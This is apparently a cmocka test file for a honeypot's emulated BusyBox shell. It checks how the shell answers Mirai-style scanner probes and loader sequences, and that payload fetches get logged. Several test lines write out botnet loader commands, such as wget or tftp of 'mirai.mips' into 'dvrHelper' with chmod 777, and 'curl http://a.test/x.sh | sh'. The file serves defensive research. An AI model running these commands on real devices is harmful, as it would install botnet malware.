// SPDX-License-Identifier: GPL-2.0-only
/* The shell: what a bot types, and exactly what it gets. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "device.h"
#include "shell.h"
#include "words.h"

static char *run(struct shell *shell, const char *line)
{
	struct bytes out = BYTES(SHELL_OUTPUT_MAX);
	char *text;

	shell_run(shell, (const uint8_t *)line, strlen(line), &out);
	text = calloc(1, out.len + 1);
	assert_non_null(text);
	if (out.len)
		memcpy(text, out.data, out.len);
	bytes_free(&out);
	return text;
}

#define expect(shell, line, expected) \
	do { \
		char *text_ = run(shell, line); \
		assert_string_equal(text_, expected); \
		free(text_); \
	} while (0)

#define expect_part(shell, line, part) \
	do { \
		char *text_ = run(shell, line); \
		if (!strstr(text_, part)) \
			fail_msg("%s: no %s in: %s", line, part, text_); \
		free(text_); \
	} while (0)

static struct labconf_file files[] = {
	{ (char *)"/etc/banner", (uint8_t *)"camera\n", 7 },
	{ (char *)"/proc/mounts", (uint8_t *)"root / rw\n", 10 },
};
static struct labconf_telnet conf = { .hostname = (char *)"device" };

/* what was fetched, and what became of files */
static char told[4096];

static void on_fetch(void *data, const struct fetch *fetch)
{
	sprintf(told + strlen(told), "%s %s > %s;", fetch->tool, fetch->url, fetch->file);
}

static void on_file(void *data, const char *path, const uint8_t *content, size_t len)
{
	if (strlen(told) + len + strlen(path) + 16 < sizeof(told))
		sprintf(told + strlen(told), "%s=%.*s;", path, (int)len, (const char *)content);
}

static const struct observer observer = { .fetch = on_fetch, .file = on_file };

static int setup(void **state)
{
	struct shell *shell = malloc(sizeof(*shell));

	shell_init(shell, &conf, &observer);
	*state = shell;
	return shell ? 0 : -1;
}

static int teardown(void **state)
{
	shell_free(*state);
	free(*state);
	return 0;
}

/* The scanner's: enable, system, shell, sh, then the made-up applet. */
static void test_scanner(void **state)
{
	struct shell *shell = *state;

	expect(shell, "enable", "sh: enable: not found\n");
	expect(shell, "system", "sh: system: not found\n");
	expect(shell, "shell", "sh: shell: not found\n");
	assert_int_equal(shell->depth, 0);
	expect(shell, "sh", "\n\n" DEVICE_BUSYBOX " built-in shell (ash)\n"
	       "Enter 'help' for a list of built-in commands.\n\n");
	assert_int_equal(shell->depth, 1);
	expect(shell, "/bin/busybox MIRAI", "MIRAI: applet not found\n");
	assert_int_equal(shell->status, 127);
	expect(shell, "busybox ECCHI", "ECCHI: applet not found\n");
	expect(shell, "/bin/busybox busybox IHCCE", "IHCCE: applet not found\n");
	expect(shell, "", "");
	expect(shell, " \t ", "");
}

static void test_loader(void **state)
{
	struct shell *shell = *state;
	char *text;

	expect_part(shell, "/bin/busybox ps; /bin/busybox ECCHI", "    1 root      1508 S    init\n");
	expect_part(shell, "/bin/busybox ps; /bin/busybox ECCHI", "ECCHI: applet not found\n");
	expect_part(shell, "/bin/busybox cat /proc/mounts; /bin/busybox ECCHI",
		    "tmpfs /tmp tmpfs rw,relatime 0 0\nECCHI: applet not found\n");
	/* can it write here? */
	expect(shell, "/bin/busybox echo -e '\\x6b\\x61\\x6d\\x69/tmp' > /tmp/.nippon; "
	       "/bin/busybox cat /tmp/.nippon; /bin/busybox rm /tmp/.nippon",
	       "kami/tmp\n");
	expect(shell, "cat /tmp/.nippon",
	       "cat: can't open '/tmp/.nippon': No such file or directory\n");
	expect(shell, "echo x > /proc/x", "sh: can't create /proc/x: Permission denied\n");
	expect(shell, "cd /tmp", "");
	expect(shell, "/bin/busybox cp /bin/echo dvrHelper; >dvrHelper; "
	       "/bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI", "ECCHI: applet not found\n");
	/* neither is missing: no "wget: applet not found" */
	text = run(shell, "/bin/busybox wget; /bin/busybox tftp; /bin/busybox ECCHI");
	assert_non_null(strstr(text, "Usage: wget"));
	assert_non_null(strstr(text, "Usage: tftp"));
	assert_null(strstr(text, "wget: applet not found"));
	assert_string_equal(text + strlen(text) - 24, "ECCHI: applet not found\n");
	free(text);
	expect_part(shell, "/bin/busybox wget http://1.2.3.4:80/bins/mirai.mips -O - > dvrHelper; "
		    "/bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI",
		    "Connecting to 1.2.3.4:80 (1.2.3.4:80)\n");
	expect(shell, "/bin/busybox tftp -g -l dvrHelper -r mirai.mips 1.2.3.4; "
	       "/bin/busybox ECCHI", "ECCHI: applet not found\n");
	expect(shell, "./dvrHelper telnet.mips; /bin/busybox IHCCE", "IHCCE: applet not found\n");
	expect(shell, "./other", "sh: ./other: not found\n");
	expect(shell, "rm -rf other; /bin/busybox rm dvrHelper", "");
	expect(shell, "./dvrHelper", "sh: ./dvrHelper: not found\n");
}

/* A loader reads the class, the byte order and the machine of /bin/echo. */
static void test_program_header(void **state)
{
	static const uint8_t ident[] = { 0x7f, 'E', 'L', 'F', 1, 2, 1 };
	struct bytes out = BYTES(SHELL_OUTPUT_MAX);
	static const char line[] = "/bin/busybox cat /bin/echo; /bin/busybox ECCHI";

	shell_run(*state, (const uint8_t *)line, strlen(line), &out);
	assert_true(out.len > 52 + 24);
	assert_memory_equal(out.data, ident, sizeof(ident));
	assert_int_equal(out.data[18] << 8 | out.data[19], 8);
	assert_memory_equal(out.data + out.len - 24, "ECCHI: applet not found\n", 24);
	assert_null(memchr(out.data, '\n', out.len - 24));
	bytes_reset(&out);
	shell_run(*state, (const uint8_t *)"dd bs=52 count=1 if=/bin/sh", 27, &out);
	assert_memory_equal(out.data, ident, sizeof(ident));
	assert_memory_equal(out.data + 52, "1+0 records in\n1+0 records out\n", 31);
	assert_int_equal(out.len, 52 + 31);
	bytes_free(&out);
}

static void test_echo(void **state)
{
	static const struct {
		const char *line, *out;
	} cases[] = {
		{ "echo", "\n" },
		{ "echo -n", "" },
		{ "echo a  b 'c  d' \"e  f\"", "a b c  d e  f\n" },
		{ "echo -n abc", "abc" },
		{ "echo -e '\\x67\\x61\\x79\\x66\\x67\\x74'", "gayfgt\n" },
		{ "echo -ne '\\x41\\102\\0103\\n'", "ABC\n" },
		{ "echo -en \"\\x41\\x4\"", "A\4" },
		{ "echo '\\x41'", "\\x41\n" },
		{ "echo -E -e '\\t|'", "\t|\n" },
		{ "echo -e -E '\\t|'", "\\t|\n" },
		{ "echo -x -n", "-x -n\n" },
		{ "echo - -n", "- -n\n" },
		{ "echo -e 'a\\cb' c", "a" },
		{ "echo -e '\\q\\x\\'", "\\q\\x\\\n" },
		{ "echo -e '\\\\x41'", "\\x41\n" },
		{ "/bin/echo hi", "hi\n" },
		{ "busybox echo -e '\\101'", "A\n" },
	};
	size_t i;

	for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++)
		expect(*state, cases[i].line, cases[i].out);
}

static void test_words(void **state)
{
	static const struct {
		const char *line, *out;
	} cases[] = {
		{ "echo a;echo b ; echo c;", "a\nb\nc\n" },
		{ ";;; ; echo a", "a\n" },
		{ "true && echo yes || echo no", "yes\n" },
		{ "false && echo yes || echo no", "no\n" },
		{ "false && echo a | cat; echo b", "b\n" },
		{ "nope || echo b", "sh: nope: not found\nb\n" },
		{ "echo a & echo b", "a\nb\n" },
		{ "echo 'a;b' \"c|d\" e\\;f", "a;b c|d e;f\n" },
		{ "echo \"a\\\"b\\n\" '\\'", "a\"b\\n \\\n" },
		{ "echo 'unended ; echo", "unended ; echo\n" },
		{ "e\"ch\"o ''", "\n" },
		{ "echo a>f;echo b>>f;cat f;cat <f", "a\nb\na\nb\n" },
		{ "echo a >/dev/null 2>&1; echo b 2>/dev/null", "b\n" },
		{ ">g; cat g; echo -n x >> g; cat g", "x" },
		{ "cat < missing", "sh: can't open missing: no such file\n" },
		{ "echo abc | cat | head -c 2", "ab" },
		{ "cat /proc/mounts | grep /tmp", "tmpfs /tmp tmpfs rw,relatime 0 0\n" },
		{ "cat /proc/mounts | head -n 1", "rootfs / rootfs rw 0 0\n" },
		{ "sh -c 'echo in; exit'; echo out", "in\nout\n" },
		{ "/bin/busybox sh -c \"cd /var; pwd\"", "/var\n" },
		{ "cd /tmp; cd ..; pwd; cd /a/./b/../c/; pwd", "/\n/a/c\n" },
		{ "echo x > h; cp h h; cat h; mv h i; cat i; rm h", "x\nx\n"
		  "rm: can't remove 'h': No such file or directory\n" },
		{ "uname -m", "mips\n" },
		{ "hostname; whoami", "device\nroot\n" },
		{ "\\", "sh: \\: not found\n" },
	};
	size_t i;

	for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		shell_free(*state);
		shell_init(*state, &conf, &observer);
		expect(*state, cases[i].line, cases[i].out);
	}
}

static void test_fetches_are_told(void **state)
{
	static const struct {
		const char *line, *told;
	} cases[] = {
		{ "wget http://192.0.2.1/bins/x.mips", "wget http://192.0.2.1/bins/x.mips > x.mips;" },
		{ "wget http://192.0.2.1/x -O - > y", "wget http://192.0.2.1/x > -;" },
		{ "/bin/busybox wget http://192.0.2.1:81/", "wget http://192.0.2.1:81/ > index.html;" },
		{ "tftp -g -l a -r b.mips 192.0.2.1", "tftp tftp://192.0.2.1/b.mips > a;" },
		{ "tftp -r b -g 192.0.2.1", "tftp tftp://192.0.2.1/b > b;" },
		{ "curl -O http://a.test/x.sh", "curl http://a.test/x.sh > x.sh;" },
		{ "curl http://a.test/x.sh -o t -s", "curl http://a.test/x.sh > t;" },
		{ "curl http://a.test/x.sh | sh", "curl http://a.test/x.sh > -;" },
		{ "ftpget -u a -p b 192.0.2.1 l r", "ftpget ftp://192.0.2.1/r > l;" },
		{ "wget; tftp; curl; ftpget", "" },
	};
	size_t i;

	for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		told[0] = '\0';
		free(run(*state, cases[i].line));
		assert_string_equal(told, cases[i].told);
	}
}

static void test_files_are_told(void **state)
{
	struct shell *shell = *state;

	told[0] = '\0';
	free(run(shell, "echo -n one > /tmp/a; echo -n two >> /tmp/a"));
	assert_string_equal(told, "");
	free(run(shell, "echo -n three > /tmp/a"));
	assert_string_equal(told, "/tmp/a=onetwo;");
	free(run(shell, "rm /tmp/a; > /tmp/empty; echo -n four > b"));
	assert_string_equal(told, "/tmp/a=onetwo;/tmp/a=three;");
	shell_free(shell);
	assert_string_equal(told, "/tmp/a=onetwo;/tmp/a=three;/b=four;");
}

static void test_the_file_of_lab_conf(void **state)
{
	struct shell *shell = *state;

	conf.files = files;
	conf.file_count = 2;
	expect(shell, "cat /etc/banner", "camera\n");
	expect(shell, "cat /proc/mounts", "root / rw\n");
	expect(shell, "echo x > /etc/banner; cat /etc/banner", "x\n");
	conf.file_count = 0;
	expect_part(shell, "cat /proc/mounts", "squashfs");
}

/* What a loader reads: class, byte order, machine. */
static void test_machines(void **state)
{
	static const struct {
		const char *name, *uname;
		uint8_t class, data, high, low;
	} cases[] = {
		{ "mips", "mips\n", 1, 2, 0, 8 }, { "mipsel", "mips\n", 1, 1, 8, 0 },
		{ "arm", "armv5tejl\n", 1, 1, 40, 0 }, { "arm7", "armv7l\n", 1, 1, 40, 0 },
		{ "x86", "i686\n", 1, 1, 3, 0 }, { "x86_64", "x86_64\n", 2, 1, 62, 0 },
		{ "powerpc", "ppc\n", 1, 2, 0, 20 }, { "sh4", "sh4\n", 1, 1, 42, 0 },
		{ "m68k", "m68k\n", 1, 2, 0, 4 }, { "sparc", "sparc\n", 1, 2, 0, 2 },
		{ "aarch64", "aarch64\n", 2, 1, 183, 0 },
	};
	struct shell *shell = *state;
	const uint8_t *program;
	size_t i, len;

	for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		conf.machine = (char *)cases[i].name;
		expect(shell, "uname -m", cases[i].uname);
		program = files_read(&shell->files, "/bin/echo", &len);
		assert_non_null(program);
		assert_memory_equal(program, "\177ELF", 4);
		assert_int_equal(program[4], cases[i].class);
		assert_int_equal(program[5], cases[i].data);
		assert_int_equal(program[18], cases[i].high);
		assert_int_equal(program[19], cases[i].low);
		assert_int_equal(len, cases[i].class == 2 ? 64 + 56 : 52 + 32);
	}
	conf.machine = NULL;
}

static void test_exit(void **state)
{
	struct shell *shell = *state;

	free(run(shell, "sh; sh"));
	assert_int_equal(shell->depth, 2);
	free(run(shell, "exit; exit"));
	assert_int_equal(shell->depth, 0);
	assert_false(shell->ended);
	expect(shell, "exit; echo never", "");
	assert_true(shell->ended);
}

static void test_bounds(void **state)
{
	struct shell *shell = *state;
	char line[WORDS_LINE_MAX + 1];
	struct bytes out = BYTES(SHELL_OUTPUT_MAX);
	unsigned int i;
	char *text;

	/* shells within shells, scripts within scripts */
	for (i = 0; i < 100; i++)
		free(run(shell, "sh"));
	assert_true(shell->depth < 100);
	expect(shell, "sh -c 'sh -c \"sh -c \\\"sh -c \\\\\\\"echo deep\\\\\\\"\\\"\"'", "");
	/* files: their number, their bytes, their names */
	for (i = 0; i < FILES_MAX; i++) {
		snprintf(line, sizeof(line), "> f%u", i);
		expect(shell, line, "");
	}
	expect(shell, "> more", "sh: write error: No space left on device\n");
	expect(shell, "rm f0; > more", "");
	memset(line, 'a', sizeof(line) - 1);
	line[sizeof(line) - 1] = '\0';
	memcpy(line, "echo ", 5);
	memcpy(line + sizeof(line) - 1 - 5, " >>f1", 5);
	for (i = 0; i < FILES_BYTES_MAX / (sizeof(line) - 10); i++)
		free(run(shell, line));
	expect(shell, line, "sh: write error: No space left on device\n");
	assert_true(shell->files.bytes <= FILES_BYTES_MAX);
	memcpy(line, "cd ..", 5);
	memset(line + 5, 'a', sizeof(line) - 6);
	text = run(shell, line);
	assert_non_null(strstr(text, "can't cd"));
	free(text);
	/* output of a line */
	memset(line, ' ', sizeof(line) - 1);
	for (i = 0; i + 7 < sizeof(line); i += 7)
		memcpy(line + i, "cat f1;", 7);
	shell_run(shell, (const uint8_t *)line, sizeof(line) - 1, &out);
	assert_int_equal(out.len, SHELL_OUTPUT_MAX);
	assert_true(out.cut);
	bytes_free(&out);
	/* words of a command: the rest is dropped */
	for (i = 0; i + 1 < sizeof(line); i++)
		line[i] = i % 2 ? ' ' : '>';
	free(run(shell, line));
	for (i = 0; i + 1 < sizeof(line); i++)
		line[i] = i % 2 ? ' ' : 'x';
	free(run(shell, line));
}

/* Paths just short of, at and above the limit. */
static void test_long_paths(void **state)
{
	struct shell *shell = *state;
	char line[2 * FILES_PATH_MAX];
	unsigned int len;

	for (len = FILES_PATH_MAX - 8; len < FILES_PATH_MAX + 8; len++) {
		bool fits = len < FILES_PATH_MAX - 1;

		shell_free(shell);
		shell_init(shell, &conf, &observer);
		snprintf(line, sizeof(line), "cd /%0*d", (int)len - 1, 0);
		free(run(shell, line));
		assert_int_equal(shell->status != 0, !fits);
		if (fits)
			assert_int_equal(strlen(shell->files.cwd), len);
		free(run(shell, "cd b"));
		free(run(shell, "cd /"));
		snprintf(line, sizeof(line), "echo x > /%0*d", (int)len - 1, 0);
		free(run(shell, line));
		assert_int_equal(shell->status != 0, !fits);
	}
}

#define test(function) cmocka_unit_test_setup_teardown(function, setup, teardown)

int main(void)
{
	const struct CMUnitTest tests[] = {
		test(test_scanner),
		test(test_loader),
		test(test_program_header),
		test(test_echo),
		test(test_words),
		test(test_fetches_are_told),
		test(test_files_are_told),
		test(test_the_file_of_lab_conf),
		test(test_machines),
		test(test_exit),
		test(test_bounds),
		test(test_long_paths),
	};

	return cmocka_run_group_tests_name("shell", tests, NULL, NULL);
}
